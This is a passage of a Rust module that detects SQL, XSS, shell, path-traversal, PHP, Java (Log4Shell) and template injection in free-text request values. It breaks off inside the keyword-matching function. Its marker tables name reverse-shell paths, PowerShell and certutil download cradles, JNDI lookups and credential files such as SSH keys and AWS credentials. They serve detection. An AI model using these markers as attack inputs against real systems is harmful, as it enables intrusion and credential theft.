//! Structural injection detector for free-text request values.
//!
//! The learned value profiles flag a typed field (an id, an email) that suddenly carries `'` or
//! `<`. Free-text fields (comments, search boxes, names) legitimately contain quotes, brackets,
//! semicolons and ampersands, so there the profile cannot decide and this module does: each
//! rule looks for a construct that an interpreter (SQL engine, browser, shell, PHP, JVM,
//! template engine, file API) would act on and that prose does not produce.
//!
//! Cost model: one Aho-Corasick pass finds every literal marker and every trigger word; a
//! structural rule only runs when its trigger words / punctuation occur, and each is a single
//! forward scan. All work is over at most the first [`SCAN_LIMIT`] bytes, so it is linear in
//! the input and bounded for large bodies. A value that still carries a layer of encoding
//! (`%2e`, `&#x3c;`, `\u0027`, full-width `＜`) is decoded and scanned again, at most
//! [`MAX_DECODE_PASSES`] times. Keyword tables are built once.
//!
//! Measured against the OWASP CRS regression corpus (attack payload of each stage, one value):
//! 86.5 % of the 3,345 attack stages detected (PL1 rules 91 %); no benign hit in 28,000
//! generated and novel free-text sentences; the misses are mostly paranoia-level-2+ fragments
//! (`ABS(`, `<<`, bare URLs to unknown hosts) that are not distinguishable from prose.
//! About 1 µs for a 24-byte value, 3 µs for a 75-byte sentence, ≤ 2.5 ms for a 1 MiB value.

use std::collections::HashMap;
use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, MatchKind};

/// Only the first 64 KiB of a value are inspected: payloads sit at the start of a field, and a
/// megabyte body must not cost a megabyte of scanning per rule.
pub const SCAN_LIMIT: usize = 64 * 1024;
/// How many extra decoding layers (percent, HTML entities, JS escapes, full-width forms) we peel.
pub const MAX_DECODE_PASSES: usize = 2;
/// libinjection is the most expensive check (~0.1 µs per byte for SQL): it only sees windows
/// of this many bytes around the first few suspicious spots, never the whole value.
const LIBINJECTION_WINDOW: usize = 192;
const LIBINJECTION_MAX_WINDOWS: usize = 2;

/// What kind of injection a value carries.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Injection {
    Sql,
    Html,
    Shell,
    PathTraversal,
    RemoteInclude,
    Php,
    Java,
    Template,
}

impl Injection {
    pub fn as_str(self) -> &'static str {
        match self {
            Injection::Sql => "sql",
            Injection::Html => "html",
            Injection::Shell => "shell",
            Injection::PathTraversal => "path-traversal",
            Injection::RemoteInclude => "remote-include",
            Injection::Php => "php",
            Injection::Java => "java",
            Injection::Template => "template",
        }
    }
}

/// Decides whether a decoded value (already percent-decoded once by the caller) carries an
/// injection. Only the first [`SCAN_LIMIT`] bytes are inspected.
pub fn detect(value: &str) -> Option<Injection> {
    detect_rule(value).map(|(kind, _)| kind)
}

/// Like [`detect`], plus the name of the rule (or the literal marker) that decided, for logs.
pub fn detect_rule(value: &str) -> Option<(Injection, &'static str)> {
    let head = clip(value.as_bytes(), SCAN_LIMIT);
    if head.iter().all(u8::is_ascii_whitespace) {
        return None;
    }
    if let Some(hit) = scan(head) {
        return Some(hit);
    }
    // Evasion layers: decode what is left and look again.
    let mut layer: Option<Vec<u8>> = None;
    for _ in 0..MAX_DECODE_PASSES {
        let src = layer.as_deref().unwrap_or(head);
        let next = decode::peel(src)?;
        if let Some(hit) = scan(&next) {
            return Some(hit);
        }
        layer = Some(next);
    }
    None
}

/// A structural rule: its name and its check.
type Rule = (&'static str, fn(&Scan) -> bool);

/// Detectors in label-priority order: the most specific interpreter wins (a `${jndi:` URL is
/// Java, not remote include; `<?php system()` is PHP, not shell).
const DETECTORS: [(Injection, &[Rule]); 8] = [
    (Injection::Java, java::RULES),
    (Injection::Php, php::RULES),
    (Injection::Template, template::RULES),
    (Injection::Html, html::RULES),
    (Injection::Sql, sql::RULES),
    (Injection::Shell, shell::RULES),
    (Injection::PathTraversal, path::RULES),
    (Injection::RemoteInclude, remote::RULES),
];

fn scan(b: &[u8]) -> Option<(Injection, &'static str)> {
    let s = Scan::new(b);
    DETECTORS.iter().find_map(|(kind, rules)| {
        let by_keyword = s.keyword_rule(*kind);
        by_keyword
            .or_else(|| {
                rules
                    .iter()
                    .find(|(_, check)| check(&s))
                    .map(|(name, _)| *name)
            })
            .map(|name| (*kind, name))
    })
}

/// Cuts `b` to at most `max` bytes without splitting a UTF-8 sequence.
fn clip(b: &[u8], max: usize) -> &[u8] {
    if b.len() <= max {
        return b;
    }
    let mut end = max;
    while end > 0 && b.get(end).is_some_and(|c| (c & 0xC0) == 0x80) {
        end -= 1;
    }
    b.get(..end).unwrap_or_default()
}

/// Up to [`LIBINJECTION_MAX_WINDOWS`] non-overlapping windows of [`LIBINJECTION_WINDOW`] bytes
/// starting `back` bytes before each spot: the bounded input handed to libinjection.
fn windows<'a>(
    t: Text<'a>,
    spots: impl Iterator<Item = usize> + 'a,
    back: usize,
) -> impl Iterator<Item = &'a [u8]> + 'a {
    let mut covered = None;
    spots
        .filter(move |&p| {
            let fresh = covered.is_none_or(|c| p >= c);
            if fresh {
                covered = Some(p.saturating_sub(back) + LIBINJECTION_WINDOW);
            }
            fresh
        })
        .take(LIBINJECTION_MAX_WINDOWS)
        .map(move |p| {
            let start = p.saturating_sub(back);
            t.slice(start, start + LIBINJECTION_WINDOW)
        })
}

// ---------------------------------------------------------------------------------------------
// The per-layer scan context: bytes, punctuation present, keyword kinds and trigger words.
// ---------------------------------------------------------------------------------------------

struct Scan<'a> {
    t: Text<'a>,
    /// Bit `c` set when ASCII byte `c` occurs, as two 64-bit halves (bit 127 stands for any
    /// non-ASCII byte).
    chars: [u64; 2],
    /// For each [`Injection`] (by discriminant), the first conclusive literal marker found.
    markers: [Option<&'static str>; 8],
    /// Trigger words present (see [`keywords::TRIGGERS`]).
    words: u64,
    /// Where trigger words occur: (trigger index, start), the first [`keywords::MAX_HITS`].
    hits: keywords::Hits,
}

impl<'a> Scan<'a> {
    fn new(b: &'a [u8]) -> Self {
        let mut chars = [0u64; 2];
        for &c in b {
            let c = c.min(127);
            if let Some(half) = chars.get_mut(usize::from(c >> 6)) {
                *half |= 1 << (c & 63);
            }
        }
        let (markers, words, hits) = keywords::find(b);
        Scan {
            t: Text(b),
            chars,
            markers,
            words,
            hits,
        }
    }
    fn has(&self, c: u8) -> bool {
        c < 128
            && self
                .chars
                .get(usize::from(c >> 6))
                .is_some_and(|h| h & (1 << (c & 63)) != 0)
    }
    fn has_any(&self, set: &[u8]) -> bool {
        set.iter().any(|&c| self.has(c))
    }
    fn word(&self, w: u64) -> bool {
        self.words & w != 0
    }
    /// Calls `f(start, end)` for each whole-word occurrence of the trigger word `word`, from
    /// the positions the keyword pass recorded (searching again only if they overflowed).
    fn each_word(&self, word: &str, f: impl FnMut(usize, usize) -> bool) -> bool {
        self.each_trigger(word, true, f)
    }

    /// Like [`Scan::each_word`]; `whole` = false accepts occurrences glued to words (`1||1`).
    fn each_trigger(
        &self,
        word: &str,
        whole: bool,
        mut f: impl FnMut(usize, usize) -> bool,
    ) -> bool {
        let t = self.t;
        let ok = |p: usize, e: usize| !whole || (t.word_start(p) && !t.is_word(e));
        match keywords::trigger_index(word) {
            Some(idx) if !self.hits.overflow => self.hits.list().iter().any(|&(k, p)| {
                let (p, e) = (p as usize, p as usize + word.len());
                k == idx && ok(p, e) && f(p, e)
            }),
            _ => {
                let w = word.as_bytes();
                let mut from = 0;
                while let Some(p) = find_ci(t.0, w, from) {
                    from = p + 1;
                    if ok(p, p + w.len()) && f(p, p + w.len()) {
                        return true;
                    }
                }
                false
            }
        }
    }

    fn keyword_rule(&self, kind: Injection) -> Option<&'static str> {
        self.markers.get(kind as usize).copied().flatten()
    }
}

// ---------------------------------------------------------------------------------------------
// Byte-level helpers.
// ---------------------------------------------------------------------------------------------

/// A borrowed byte view with panic-free accessors (out-of-range reads yield 0).
#[derive(Clone, Copy)]
struct Text<'a>(&'a [u8]);

impl<'a> Text<'a> {
    fn len(self) -> usize {
        self.0.len()
    }
    fn at(self, i: usize) -> u8 {
        self.0.get(i).copied().unwrap_or(0)
    }
    /// The byte before `i`, or 0 at the start.
    fn before(self, i: usize) -> u8 {
        i.checked_sub(1).map_or(0, |j| self.at(j))
    }
    fn slice(self, from: usize, to: usize) -> &'a [u8] {
        self.0
            .get(from.min(self.len())..to.min(self.len()))
            .unwrap_or_default()
    }
    fn starts_ci(self, i: usize, pat: &[u8]) -> bool {
        i.checked_add(pat.len())
            .and_then(|end| self.0.get(i..end))
            .is_some_and(|s| s.eq_ignore_ascii_case(pat))
    }
    fn is_word(self, i: usize) -> bool {
        is_word(self.at(i))
    }
    /// True when a word starting at `i` is not glued to a preceding word character.
    fn word_start(self, i: usize) -> bool {
        !is_word(self.before(i))
    }
    fn skip_ws(self, mut i: usize) -> usize {
        while i < self.len() && (self.at(i).is_ascii_whitespace() || self.at(i) == 0x0b) {
            i += 1;
        }
        i
    }
    fn skip_back_ws(self, mut i: usize) -> usize {
        while i > 0 && self.before(i).is_ascii_whitespace() {
            i -= 1;
        }
        i
    }
    fn word_end(self, mut i: usize) -> usize {
        while i < self.len() && self.is_word(i) {
            i += 1;
        }
        i
    }
    /// Skips whitespace and code comments (`/* */`, `//…\n`, `#…\n`) as PHP and SQL lexers do;
    /// also reports whether a comment was skipped.
    fn skip_code_space(self, mut i: usize) -> (usize, bool) {
        let mut saw_comment = false;
        loop {
            let start = i;
            i = self.skip_ws(i);
            if self.starts_ci(i, b"/*") {
                saw_comment = true;
                i = find(self.0, b"*/", i + 2).map_or(self.len(), |e| e + 2);
            } else if self.starts_ci(i, b"//") || (self.at(i) == b'#' && self.at(i + 1) != b'{') {
                let nl = memchr::memchr(b'\n', self.slice(i, self.len()));
                // A line comment only counts when it really ends a line.
                if let Some(e) = nl {
                    saw_comment = true;
                    i += e + 1;
                }
            }
            if i == start {
                return (i, saw_comment);
            }
        }
    }
    /// Next word at or after `i` (skipping whitespace/comments), as a range.
    fn next_word(self, i: usize) -> Option<(usize, usize)> {
        let (s, _) = self.skip_code_space(i);
        let e = self.word_end(s);
        (e > s).then_some((s, e))
    }
    fn word_is(self, range: Option<(usize, usize)>, words: &[&str]) -> bool {
        range.is_some_and(|(s, e)| in_list(words, self.slice(s, e)))
    }
    fn contains_ci(self, pat: &[u8]) -> bool {
        find_ci(self.0, pat, 0).is_some()
    }
}

fn is_word(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_'
}

/// Substring search for the short needles used here (memchr on the first byte, then compare;
/// cheaper than building a `memmem` searcher per call).
fn find(hay: &[u8], needle: &[u8], from: usize) -> Option<usize> {
    let first = *needle.first()?;
    let mut i = from;
    while let Some(off) = memchr::memchr(first, hay.get(i..)?) {
        let p = i + off;
        if hay.get(p..p + needle.len()) == Some(needle) {
            return Some(p);
        }
        i = p + 1;
    }
    None
}

/// Every start position of `needle` in `hay` (overlapping).
fn find_all<'h>(hay: &'h [u8], needle: &'h [u8]) -> impl Iterator<Item = usize> + 'h {
    let mut from = 0;
    std::iter::from_fn(move || {
        let p = find(hay, needle, from)?;
        from = p + 1;
        Some(p)
    })
}

/// ASCII case-insensitive substring search (memchr on the first byte, then compare).
fn find_last(hay: &[u8], needle: &[u8]) -> Option<usize> {
    (0..=hay.len().checked_sub(needle.len())?)
        .rev()
        .find(|&i| hay.get(i..i + needle.len()) == Some(needle))
}

fn find_ci(hay: &[u8], needle: &[u8], from: usize) -> Option<usize> {
    let first = *needle.first()?;
    let (lo, up) = (first.to_ascii_lowercase(), first.to_ascii_uppercase());
    let mut i = from;
    while let Some(off) = memchr::memchr2(lo, up, hay.get(i..)?) {
        let p = i + off;
        if hay
            .get(p..p + needle.len())
            .is_some_and(|s| s.eq_ignore_ascii_case(needle))
        {
            return Some(p);
        }
        i = p + 1;
    }
    None
}

fn in_list(list: &[&str], w: &[u8]) -> bool {
    list.iter().any(|k| k.as_bytes().eq_ignore_ascii_case(w))
}

fn ends_with_ci(w: &[u8], p: &[u8]) -> bool {
    w.len()
        .checked_sub(p.len())
        .and_then(|n| w.get(n..))
        .is_some_and(|s| s.eq_ignore_ascii_case(p))
}

fn starts_with_ci(w: &[u8], p: &[u8]) -> bool {
    w.get(..p.len()).is_some_and(|s| s.eq_ignore_ascii_case(p))
}

fn trim_ascii(b: &[u8]) -> &[u8] {
    let start = b
        .iter()
        .position(|c| !c.is_ascii_whitespace())
        .unwrap_or(b.len());
    let end = b
        .iter()
        .rposition(|c| !c.is_ascii_whitespace())
        .map_or(start, |e| e + 1);
    b.get(start..end).unwrap_or_default()
}

/// Lower-cases a short word into a stack buffer for map lookups (`None` if longer than 32).
fn lower32(w: &[u8]) -> Option<([u8; 32], usize)> {
    let mut buf = [0u8; 32];
    let dst = buf.get_mut(..w.len())?;
    for (d, s) in dst.iter_mut().zip(w) {
        *d = s.to_ascii_lowercase();
    }
    Some((buf, w.len()))
}

/// A case-insensitive word → flags map built once from static lists.
struct WordMap(HashMap<Vec<u8>, u8>);

impl WordMap {
    fn new(groups: &[(&[&str], u8)]) -> Self {
        let mut m: HashMap<Vec<u8>, u8> = HashMap::new();
        for (words, flag) in groups {
            for w in *words {
                *m.entry(w.to_ascii_lowercase().into_bytes()).or_default() |= flag;
            }
        }
        WordMap(m)
    }
    fn get(&self, w: &[u8]) -> u8 {
        lower32(w)
            .and_then(|(buf, n)| buf.get(..n).and_then(|k| self.0.get(k)).copied())
            .unwrap_or(0)
    }
}

// ---------------------------------------------------------------------------------------------
// Literal markers and trigger words: one Aho-Corasick pass for all of them.
// ---------------------------------------------------------------------------------------------

mod keywords {
    use super::*;
    use Injection::*;

    /// How a literal marker is confirmed.
    #[derive(Clone, Copy)]
    enum Check {
        /// The literal alone is conclusive.
        Any,
        /// Must not be glued to a preceding word character.
        Start,
        /// Word boundary on both sides.
        Whole,
        /// A function name: boundary before, then optional whitespace/comments and `(`.
        Call,
    }
    use Check::*;

    /// Conclusive case-insensitive markers and the interpreter each one targets.
    #[rustfmt::skip]
    const MARKERS: &[(&str, Injection, Check)] = &[
        // Java: Log4Shell lookups, reflection/process classes, OGNL, deserialization gadgets.
        ("${jndi:", Java, Any), ("jndi:ldap", Java, Any), ("jndi:rmi", Java, Any),
        ("jndi:dns", Java, Any), ("jndi:iiop", Java, Any), ("jndi:corba", Java, Any),
        ("jndi:nds", Java, Any), ("jndi:nis", Java, Any), ("jndi:http", Java, Any),
        ("{jndi:", Java, Any), ("${::-", Java, Any), ("${lower:", Java, Any),
        ("${upper:", Java, Any), ("${env:", Java, Any), ("${sys:", Java, Any),
        ("${date:", Java, Any), ("${ctx:", Java, Any), ("${main:", Java, Any),
        ("${java:", Java, Any), ("${base64:", Java, Any), ("${bundle:", Java, Any),
        ("${k8s:", Java, Any), ("${docker:", Java, Any), ("${spring:", Java, Any),
        ("${web:", Java, Any), ("${log4j:", Java, Any), ("${jvmrunargs", Java, Any),
        ("${event:", Java, Any), ("${marker:", Java, Any),
        ("java.lang.", Java, Start), ("java.io.", Java, Start), ("java.net.", Java, Start),
        ("java.nio.", Java, Start), ("java.rmi.", Java, Start), ("java.beans.", Java, Start),
        ("javax.script", Java, Start), ("javax.naming", Java, Start),
        ("javax.management", Java, Start), ("getruntime", Java, Any),
        ("processbuilder", Java, Any), ("classloader", Java, Any), ("class.module.", Java, Any),
        ("_memberaccess", Java, Any), ("ognlcontext", Java, Any), ("@ognl", Java, Any),
        ("%{(#", Java, Any), ("%{#", Java, Any), ("(#context", Java, Any),
        ("#context[", Java, Any), ("com.opensymphony.", Java, Any),
        ("com.sun.org.apache", Java, Any), ("com.sun.rowset", Java, Any),
        ("com.sun.jndi", Java, Any), ("org.apache.commons", Java, Any),
        ("org.omg.corba", Java, Any), ("org.springframework.", Java, Any),
        ("sun.misc.", Java, Start), ("sun.reflect.", Java, Start),
        ("scriptenginemanager", Java, Any), ("templatesimpl", Java, Any),
        ("invokertransformer", Java, Any), ("clonetransformer", Java, Any),
        ("instantiatetransformer", Java, Any), ("instantiatefactory", Java, Any),
        ("prototypeclonefactory", Java, Any), ("prototypeserializationfactory", Java, Any),
        ("chainedtransformer", Java, Any), ("constanttransformer", Java, Any),
        ("whileclosure", Java, Any), (".forclosure", Java, Any), ("aced0005", Java, Any),
        // PHP: open tags, BBCode-style tags, stream wrappers, superglobals, ini directives.
        ("<?php", Php, Any), ("<?=", Php, Any), ("[php]", Php, Any), ("[/php]", Php, Any),
        ("{php}", Php, Any), ("{/php}", Php, Any), ("php://", Php, Any), ("phar://", Php, Any),
        ("compress.zlib://", Php, Any), ("compress.bzip2://", Php, Any), ("zlib://", Php, Any),
        ("glob://", Php, Any), ("expect://", Php, Any), ("ssh2.shell://", Php, Any),
        ("ssh2.exec://", Php, Any), ("ssh2.tunnel://", Php, Any), ("ssh2.sftp://", Php, Any),
        ("ssh2.scp://", Php, Any), ("rar://", Php, Any), ("ogg://", Php, Any),
        ("zip://", Php, Any), ("$_get", Php, Whole), ("$_post", Php, Whole),
        ("$_request", Php, Whole), ("$_cookie", Php, Whole), ("$_server", Php, Whole),
        ("$_files", Php, Whole), ("$_env", Php, Whole), ("$_session", Php, Whole),
        ("$globals", Php, Whole), ("$http_raw_post_data", Php, Any),
        ("allow_url_include", Php, Any), ("allow_url_fopen", Php, Any),
        ("auto_prepend_file", Php, Any), ("auto_append_file", Php, Any),
        ("disable_functions", Php, Any), ("open_basedir", Php, Any), ("memory_limit", Php, Any),
        ("extension_dir", Php, Any), ("unserialize_max_depth", Php, Any), ("opcache.jit", Php, Any),
        ("mbstring.regex", Php, Any), ("[\\php]", Php, Any),
        // SQL: catalog objects, server variables and functions no prose contains.
        ("information_schema", Sql, Any), ("pg_catalog", Sql, Any), ("pg_shadow", Sql, Any),
        ("pg_sleep", Sql, Any), ("sysobjects", Sql, Whole), ("syscolumns", Sql, Whole),
        ("sysdatabases", Sql, Whole), ("msysaccessobjects", Sql, Any),
        ("msysobjects", Sql, Any), ("sqlite_master", Sql, Any), ("mysql.user", Sql, Whole),
        ("mysql.db", Sql, Whole), ("xp_cmdshell", Sql, Any), ("xp_dirtree", Sql, Any),
        ("xp_regread", Sql, Any), ("xp_fileexist", Sql, Any), ("sp_executesql", Sql, Any),
        ("sp_password", Sql, Any), ("sp_oacreate", Sql, Any), ("sp_makewebtask", Sql, Any),
        ("openrowset", Sql, Any), ("opendatasource", Sql, Any), ("utl_http", Sql, Any),
        ("utl_inaddr", Sql, Any), ("dbms_pipe", Sql, Any), ("dbms_lock", Sql, Any),
        ("dbms_xmlgen", Sql, Any), ("@@version", Sql, Any), ("@@datadir", Sql, Any),
        ("@@hostname", Sql, Any), ("@@basedir", Sql, Any), ("/*!", Sql, Any),
        ("into outfile", Sql, Whole), ("into dumpfile", Sql, Whole),
        ("load data infile", Sql, Whole), ("procedure analyse", Sql, Whole),
        ("benchmark", Sql, Call), ("load_file", Sql, Call), ("extractvalue", Sql, Call),
        ("updatexml", Sql, Call), ("group_concat", Sql, Call), ("concat_ws", Sql, Call),
        ("make_set", Sql, Call), ("xmltype", Sql, Call), ("lo_import", Sql, Call),
        ("lo_export", Sql, Call), ("lo_get", Sql, Call), ("sys_eval", Sql, Call),
        ("sys_exec", Sql, Call), ("db_name", Sql, Call), ("json_search", Sql, Call),
        ("json_extract", Sql, Call), ("starts_with", Sql, Call), ("coalesce", Sql, Call),
        ("ifnull", Sql, Call), ("nullif", Sql, Call), ("sysdate", Sql, Call),
        ("substring", Sql, Call), ("char_length", Sql, Call), ("unhex", Sql, Call),
        ("strcmp", Sql, Call), ("last_insert_id", Sql, Call), ("current_user", Sql, Whole),
        ("session_user", Sql, Call), ("system_user", Sql, Call), ("schema_name", Sql, Whole),
        ("unistr", Sql, Call), ("string_to_array", Sql, Call), ("pg_read_file", Sql, Call),
        ("concat", Sql, Call), ("find_in_set", Sql, Call), ("name_const", Sql, Call),
        ("sqlite_compileoption", Sql, Any), ("uncompress", Sql, Call), ("sqlite_version", Sql, Call),
        // Shell: reverse shells, IFS tricks, Windows/PowerShell download cradles.
        ("/dev/tcp/", Shell, Any), ("/dev/udp/", Shell, Any), ("${ifs", Shell, Any),
        ("$ifs", Shell, Whole), ("/bin/sh", Shell, Any), ("/bin/bash", Shell, Any),
        ("cmd.exe", Shell, Any), ("cmd /c", Shell, Start), ("cmd/c", Shell, Start),
        ("powershell", Shell, Start), ("invoke-expression", Shell, Any),
        ("invoke-webrequest", Shell, Any), ("invoke-command", Shell, Any),
        ("invoke-wmimethod", Shell, Any), ("downloadstring", Shell, Any),
        ("downloadfile", Shell, Any), ("net.webclient", Shell, Any), ("new-object", Shell, Start),
        ("start-process", Shell, Any), ("iex(", Shell, Start), ("certutil", Shell, Whole),
        ("bitsadmin", Shell, Whole), ("regsvr32", Shell, Whole), ("rundll32", Shell, Whole),
        ("mshta", Shell, Whole), ("%comspec%", Shell, Any), ("%systemroot%", Shell, Any),
        ("-urlcache", Shell, Any),
        // Path traversal / local file inclusion: well-known sensitive files.
        ("/etc/passwd", PathTraversal, Any), ("/etc/shadow", PathTraversal, Any),
        ("/etc/master.passwd", PathTraversal, Any), ("/etc/group", PathTraversal, Whole),
        ("/etc/sudoers", PathTraversal, Any), ("/etc/subuid", PathTraversal, Any),
        ("/etc/subgid", PathTraversal, Any), ("/etc/crontab", PathTraversal, Any),
        ("/etc/apache2/", PathTraversal, Any), ("/etc/httpd/", PathTraversal, Any),
        ("/proc/self/", PathTraversal, Any), ("/proc/version", PathTraversal, Any),
        ("/proc/cpuinfo", PathTraversal, Any), ("/proc/net/", PathTraversal, Any),
        ("/proc/sys/kernel", PathTraversal, Any), ("/proc/interrupts", PathTraversal, Any),
        ("/sys/class", PathTraversal, Any), ("/sys/kernel/", PathTraversal, Any),
        ("/root/.", PathTraversal, Any), (".ssh/id_", PathTraversal, Any),
        (".aws/credentials", PathTraversal, Any), (".docker/", PathTraversal, Any),
        (".kube/config", PathTraversal, Any), (".bash_history", PathTraversal, Any),
        (".zsh_history", PathTraversal, Any), (".mysql_history", PathTraversal, Any),
        (".htpasswd", PathTraversal, Any), ("boot.ini", PathTraversal, Whole),
        ("win.ini", PathTraversal, Whole), ("system.ini", PathTraversal, Whole),
        ("c:\\windows\\", PathTraversal, Any), ("c:/windows/", PathTraversal, Any),
        ("\\windows\\system32", PathTraversal, Any), ("/windows/system32", PathTraversal, Any),
        ("system32\\config", PathTraversal, Any), ("web-inf/", PathTraversal, Any),
        ("web-inf\\", PathTraversal, Any), ("meta-inf/", PathTraversal, Any),
        ("wp-config", PathTraversal, Any), ("httpd.conf", PathTraversal, Whole),
        ("apache2.conf", PathTraversal, Whole), ("/@fs/", PathTraversal, Any),
        ("/wp-content/debug.log", PathTraversal, Any), ("/wp-content/error.log", PathTraversal, Any),
        ("/wp-content/errors.log", PathTraversal, Any), ("0x2e0x2e", PathTraversal, Any),
        ("0x2e.", PathTraversal, Any), ("0x5c0x2e", PathTraversal, Any),
        ("0x2f0x2e", PathTraversal, Any), ("....//", PathTraversal, Any),
        ("....\\\\", PathTraversal, Any), ("..././", PathTraversal, Any),
        // Remote include / SSRF: schemes an include or fetch should never get from a user.
        ("file://", RemoteInclude, Start), ("url:file:", RemoteInclude, Any),
        ("local_file:", RemoteInclude, Any), ("gopher://", RemoteInclude, Start),
        ("dict://", RemoteInclude, Start), ("ldap://", RemoteInclude, Start),
        ("ldaps://", RemoteInclude, Start), ("jar:http", RemoteInclude, Start), ("jar:file", RemoteInclude, Start),
        ("jar:ftp", RemoteInclude, Start),
        ("netdoc:", RemoteInclude, Start), ("tftp://", RemoteInclude, Start),
        // Template engines: Python/Jinja introspection gadgets.
        ("__class__", Template, Any), ("__globals__", Template, Any),
        ("__builtins__", Template, Any), ("__subclasses__", Template, Any),
        ("__mro__", Template, Any), ("__import__", Template, Any),
        // HTML/JS: script-capable tags, sinks and schemes.
        ("javascript:", Html, Start), ("vbscript:", Html, Start), ("livescript:", Html, Start),
        ("document.cookie", Html, Any), ("document.domain", Html, Any),
        ("document.write", Html, Any), ("document.location", Html, Any),
        ("window.location", Html, Any), ("location.href", Html, Any), (".innerhtml", Html, Any),
        ("fromcharcode", Html, Any), ("constructor.constructor", Html, Any),
        ("-moz-binding", Html, Any), ("<!entity", Html, Any), ("<!doctype", Html, Any),
        ("xi:include", Html, Any), ("<!--#", Html, Any), ("+adw-", Html, Any), ("adw-script", Html, Any),
        ("<x:script", Html, Whole), ("<script", Html, Whole), ("</script", Html, Whole),
        ("<svg", Html, Whole), ("<iframe", Html, Whole), ("<embed", Html, Whole),
        ("<applet", Html, Whole), ("<object", Html, Whole), ("<meta", Html, Whole),
        ("<link", Html, Whole), ("<base", Html, Whole), ("<style", Html, Whole), ("<xss", Html, Whole),
        ("<noscript", Html, Whole), ("<import", Html, Whole), ("<?import", Html, Any),
        (":vmlframe", Html, Any), ("srcdoc", Html, Whole), ("settimeout", Html, Call),
        ("setinterval", Html, Call), ("alert", Html, Call), ("prompt", Html, Call),
        ("confirm", Html, Call), ("atob", Html, Call), ("btoa", Html, Call),
        ("new function", Html, Call), ("globaleval", Html, Any), ("getscript", Html, Call),
        ("appendchild", Html, Call), ("createelement", Html, Call),
        ("queryselector", Html, Call), ("url(javascript", Html, Any),
        (":expression(", Html, Any), ("=expression(", Html, Any), ("@import", Html, Start),
        ("data:text/html", Html, Any), ("data:image/svg", Html, Any),
    ];

    /// Trigger words: cheap presence bits that gate the structural rules.
    pub const UNION: u64 = 1;
    pub const SELECT: u64 = 1 << 1;
    pub const ORDER: u64 = 1 << 2;
    pub const HAVING: u64 = 1 << 3;
    pub const DECLARE: u64 = 1 << 4;
    pub const EXEC: u64 = 1 << 5;
    pub const SLEEP: u64 = 1 << 6;
    pub const WAITFOR: u64 = 1 << 7;
    pub const FOR: u64 = 1 << 8;
    pub const IF: u64 = 1 << 9;
    pub const ALIAS: u64 = 1 << 10;
    pub const JAVA: u64 = 1 << 11;
    pub const SESS: u64 = 1 << 12;
    pub const DATA: u64 = 1 << 13;
    pub const BOOL_OP: u64 = 1 << 14;
    pub const STATEMENT: u64 = 1 << 15;
    pub const JS_GLOBAL: u64 = 1 << 16;
    pub const FILENAME: u64 = 1 << 17;
    pub const SQL_WORD: u64 = 1 << 18;
    pub const BATCH: u64 = 1 << 19;

    #[rustfmt::skip]
    const TRIGGERS: &[(&str, u64)] = &[
        ("union", UNION), ("select", SELECT), ("order", ORDER), ("having", HAVING),
        ("declare", DECLARE), ("exec", EXEC), ("sleep", SLEEP), ("waitfor", WAITFOR),
        ("for", FOR), ("if", IF), ("alias", ALIAS), ("java.", JAVA), ("sess_", SESS),
        ("data:", DATA), ("or", BOOL_OP), ("and", BOOL_OP), ("xor", BOOL_OP),
        ("||", BOOL_OP), ("&&", BOOL_OP), ("drop", STATEMENT), ("insert", STATEMENT),
        ("delete", STATEMENT), ("update", STATEMENT), ("truncate", STATEMENT),
        ("alter", STATEMENT), ("create", STATEMENT), ("shutdown", STATEMENT),
        ("replace", STATEMENT), ("set", STATEMENT), ("window", JS_GLOBAL), ("self", JS_GLOBAL),
        ("document", JS_GLOBAL), ("top", JS_GLOBAL), ("parent", JS_GLOBAL),
        ("frames", JS_GLOBAL), ("globalthis", JS_GLOBAL), ("filename=", FILENAME),
        ("except", UNION), ("intersect", UNION),
        ("select", SQL_WORD), ("union", SQL_WORD), ("insert", SQL_WORD), ("drop", SQL_WORD),
        ("exist", BATCH), ("defined", BATCH), ("errorlevel", BATCH), ("cmdextversion", BATCH),
        ("==", BATCH), (" equ ", BATCH), (" neq ", BATCH), (" lss ", BATCH), (" leq ", BATCH),
        (" gtr ", BATCH), (" geq ", BATCH),
        ("exec", SQL_WORD), ("sleep", SQL_WORD), ("benchmark", SQL_WORD), ("waitfor", SQL_WORD),
        ("having", SQL_WORD), ("null", SQL_WORD), ("regexp", SQL_WORD), ("iif(", SQL_WORD),
        ("convert(", SQL_WORD), ("cast(", SQL_WORD), ("concat", SQL_WORD), ("char(", SQL_WORD),
    ];

    /// One automaton over markers, trigger words, then the base64 markers (matched without
    /// case and confirmed with it, since base64 is case-sensitive).
    struct Tables {
        ac: Option<AhoCorasick>,
        base64: Vec<String>,
    }

    static TABLES: LazyLock<Tables> = LazyLock::new(|| {
        let base64 = base64_markers();
        let patterns: Vec<&str> = MARKERS
            .iter()
            .map(|m| m.0)
            .chain(TRIGGERS.iter().map(|t| t.0))
            .chain(base64.iter().map(String::as_str))
            .collect();
        let ac = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .kind(Some(AhoCorasickKind::DFA))
            .build(patterns)
            .ok();
        Tables { ac, base64 }
    });

    /// Trigger-word positions recorded by the keyword pass.
    pub struct Hits {
        list: [(u16, u32); MAX_HITS],
        len: usize,
        /// More hits than recorded: callers must search the text themselves.
        pub overflow: bool,
    }

    pub const MAX_HITS: usize = 48;

    impl Hits {
        fn push(&mut self, idx: usize, pos: usize) {
            match (
                self.list.get_mut(self.len),
                u16::try_from(idx),
                u32::try_from(pos),
            ) {
                (Some(slot), Ok(i), Ok(p)) => {
                    *slot = (i, p);
                    self.len += 1;
                }
                _ => self.overflow = true,
            }
        }
        pub fn list(&self) -> &[(u16, u32)] {
            self.list.get(..self.len).unwrap_or_default()
        }
    }

    pub fn trigger_index(word: &str) -> Option<u16> {
        TRIGGERS
            .iter()
            .position(|(w, _)| *w == word)
            .and_then(|i| u16::try_from(i).ok())
    }

    /// First conclusive marker per injection kind, the trigger words present, and where.
    pub fn find(b: &[u8]) -> ([Option<&'static str>; 8], u64, Hits) {
        let t = Text(b);
        let mut markers = [None; 8];
        let mut words = 0u64;
        let mut hits = Hits {
            list: [(0, 0); MAX_HITS],
            len: 0,
            overflow: false,
        };
        let tables = &*TABLES;
        let Some(ac) = tables.ac.as_ref() else {
            return (markers, words, hits);
        };
        for m in ac.find_overlapping_iter(b) {
            let idx = m.pattern().as_usize();
